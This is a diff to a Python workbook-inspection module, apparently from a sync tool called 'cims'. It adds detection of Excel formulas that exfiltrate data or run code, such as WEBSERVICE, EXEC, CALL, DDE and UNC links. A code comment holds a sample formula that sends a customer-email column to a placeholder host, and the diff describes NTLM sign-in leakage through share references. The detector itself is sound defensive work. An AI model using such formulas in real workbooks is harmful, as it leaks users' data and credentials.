@@ -317,7 +317,156 @@ def inspect(book, *, store=None) -> list[Finding]:
     # every suffix sync takes: DDE/OLE links, ActiveX, macro sheets work in a .xlsx too
     found += _vba_findings(book.original_bytes)
     found += _acted_on_findings(book, store)
+    found += formula_findings(book.wb)
     return found + _directory_conf(book.path)
+
+
+# -- formulas that reach the network or run code ---------------------------------------------
+#
+# A formula is the workbook's content, but some reach outside the machine when Excel
+# recalculates: whoever next signs in and refreshes fills the tables with their role's
+# data, and =WEBSERVICE("https://x/?d="&TEXTJOIN(",",TRUE,tblCustomers[Email])) would send
+# it off; a reference into a workbook on \\server\share makes Windows send the person's
+# sign-in (NTLM) there. Such formulas, in any sheet's cells or in a defined name, are
+# named, sheet, cell and function; sync refuses them like planted settings, and
+# --restore-settings does not remove them (they may be the user's own: the user does).
+# Formulas are read with openpyxl's Tokenizer: a text that merely mentions WEBSERVICE is
+# not a formula, and a string inside a formula is not a call.
+
+_NET_FUNCTIONS = {
+    "WEBSERVICE": "fetches a web address, which can carry the sheet's data",
+    "IMAGE": "fetches a picture from a web address, which can carry the sheet's data",
+    "RTD": "starts the real-time data server it names",
+    "CALL": "calls a function in a DLL",
+    "REGISTER": "loads a function from a DLL",
+    "REGISTER.ID": "loads a function from a DLL",
+    "EXEC": "starts a program",
+}
+_FAR_TARGET = re.compile(r"^\s*(?:file:|\\\\|//)", re.I)      # file:, \\server\share, //server
+_WEB_TARGET = re.compile(r"^\s*(?:https?|ftp)://", re.I)
+_FUNC_CALL = re.compile(r"(?<![\w.])(?:_xlfn\.|_xlws\.)*(" + "|".join(
+    re.escape(f) for f in sorted(_NET_FUNCTIONS, key=len, reverse=True)) + r"|HYPERLINK|FILTERXML)\s*\(", re.I)
+_STRING = re.compile(r'"(?:[^"]|"")*"')
+MAX_FORMULA_FINDINGS = 20
+
+
+def _function_name(token_value: str) -> str:
+    name = token_value.rstrip("(").upper()
+    while name.startswith(("_XLFN.", "_XLWS.")):
+        name = name[6:]
+    return name
+
+
+def _external_reference(operand: str) -> bool:
+    """A range operand in another workbook or on a share: [x.xlsx]S!A1, '\\\\h\\s\\[x.xlsx]S'!A1,
+    [1]S!A1 (an external link), 'C:\\x\\[y.xlsx]S'!A1; not a table's column tbl[Col]."""
+    if "!" not in operand:
+        return operand.startswith("[") and "]" in operand and not operand.startswith("[#")
+    book = operand.rsplit("!", 1)[0]
+    return "[" in book or "\\" in book or "/" in book or ":" in book.strip("'")[:3]
+
+
+def _formula_problems(formula: str) -> list[str]:
+    """What in one formula (text starting with "=") reaches the network or runs code."""
+    from openpyxl.formula.tokenizer import Token, Tokenizer, TokenizerError
+
+    try:
+        tokens = Tokenizer(formula).items
+    except (TokenizerError, IndexError, ValueError):
+        tokens = None
+    if tokens is None:      # not a formula the tokenizer reads: look at it outside its strings
+        bare = _STRING.sub('""', formula)
+        said = [f"{_function_name(m[1])}" for m in _FUNC_CALL.finditer(bare)]
+        if "|" in bare and "!" in bare:
+            said.append("a DDE link (starts the program it names)")
+        return sorted(set(said))
+    problems = []
+    depth_hyper = []          # for each open function: is it HYPERLINK / FILTERXML?
+    texts_in = {"HYPERLINK": [], "FILTERXML": []}
+    built_in = {"HYPERLINK": False}
+    for tok in tokens:
+        if tok.type == Token.FUNC and tok.subtype == Token.OPEN:
+            name = _function_name(tok.value)
+            if name in _NET_FUNCTIONS:
+                problems.append(f"{name} ({_NET_FUNCTIONS[name]})")
+            if depth_hyper and depth_hyper[-1] == "HYPERLINK":
+                built_in["HYPERLINK"] = True
+            depth_hyper.append(name)
+        elif tok.type == Token.FUNC and tok.subtype == Token.CLOSE:
+            if depth_hyper:
+                depth_hyper.pop()
+        elif tok.type == Token.OPERAND:
+            inside = next((f for f in reversed(depth_hyper) if f in texts_in), None)
+            if tok.subtype == Token.TEXT and inside:
+                texts_in[inside].append(tok.value[1:-1].replace('""', '"'))
+            elif tok.subtype == Token.RANGE:
+                if inside == "HYPERLINK":
+                    built_in["HYPERLINK"] = True
+                if _external_reference(tok.value):
+                    problems.append(f"a reference into another workbook ({tok.value}): Excel reads it, "
+                                    "from a \\\\server share sending the Windows sign-in")
+    hyper = texts_in["HYPERLINK"]
+    if any(_FAR_TARGET.match(t) for t in hyper):
+        problems.append("HYPERLINK to a file: or \\\\server address (a click sends the Windows sign-in "
+                        "there and can open a program)")
+    elif built_in["HYPERLINK"] and any(_WEB_TARGET.match(t) for t in hyper):
+        problems.append("HYPERLINK to a web address built from the sheet's values (a click sends them)")
+    if any(_WEB_TARGET.match(t) or _FAR_TARGET.match(t) for t in texts_in["FILTERXML"]):
+        problems.append("FILTERXML over a web or file address")
+    return problems
+
+
+def _cell_formulas(ws):
+    from openpyxl.worksheet.formula import ArrayFormula
+
+    # the cells the sheet holds (iter_rows would make an empty cell for every gap)
+    cells = ws._cells.values() if isinstance(getattr(ws, "_cells", None), dict) else (
+        c for row in ws.iter_rows() for c in row)
+    for cell in list(cells):
+        if getattr(cell, "data_type", None) != "f":
+            continue
+        value = cell.value
+        if isinstance(value, ArrayFormula):
+            value = value.text
+        if isinstance(value, str) and value.startswith("="):
+            yield cell.coordinate, value
+
+
+def _defined_names(wb):
+    """(where, name, formula) of every defined name: the workbook's and each sheet's."""
+    for name, dn in getattr(wb, "defined_names", {}).items():
+        yield "the workbook", name, dn.attr_text
+    for ws in wb.worksheets:
+        for name, dn in getattr(ws, "defined_names", {}).items():
+            yield ws.title, name, dn.attr_text
+
+
+def formula_findings(wb) -> list[Finding]:
+    """The formulas in cells and defined names that reach the network or run code, each
+    named (sheet!cell or the name, and what it uses); at most MAX_FORMULA_FINDINGS lines
+    then a count of the rest. None is restorable: the user removes them."""
+    hits = []
+    for ws in wb.worksheets:
+        for coord, formula in _cell_formulas(ws):
+            for problem in _formula_problems(formula):
+                hits.append(f"the formula in {_shown(ws.title)}!{coord} uses {problem}")
+    for where, name, text in _defined_names(wb):
+        if not text:
+            continue
+        for problem in _formula_problems(text if text.startswith("=") else "=" + text):
+            hits.append(f"the defined name {_shown(name)} ({where}) uses {problem}")
+    tail = "; cims writes none and does not remove your formulas: remove it, then sync again"
+    found = [Finding(_shown_long(h) + tail, restorable=False) for h in hits[:MAX_FORMULA_FINDINGS]]
+    if len(hits) > MAX_FORMULA_FINDINGS:
+        found.append(Finding(f"{len(hits) - MAX_FORMULA_FINDINGS} more formulas like these (`cims workbook "
+                             "check` names them after the first ones are removed)", restorable=False))
+    return found
+
+
+def _shown_long(text: str) -> str:
+    from ..terminal import shown
+
+    return shown(text if len(text) <= 300 else text[:299] + "…")
 
 
 # -- the workbook's own values that cims acts on ------------------------------------------
@@ -601,6 +750,10 @@ _EXTERNAL_CODE_RELS = {
     "package": "an embedded document that can hold macros",
     "attachedtemplate": "an attached template (it can hold macros)",
     "oleobject": "an OLE object link (it can start a program when opened)",
+    # not code, but reached over the network when Excel recalculates (a \\\\server share
+    # gets the Windows sign-in): `formula_findings` names the formulas that use it
+    "externallinkpath": "a link to another workbook (Excel reads it when it recalculates)",
+    "xlexternallinkpath/xlpathmissing": "a link to another workbook (Excel reads it when it recalculates)",
 }
 _CODE_TYPES = {
     "application/vnd.ms-excel.macrosheet+xml": "an Excel 4.0 macro sheet",
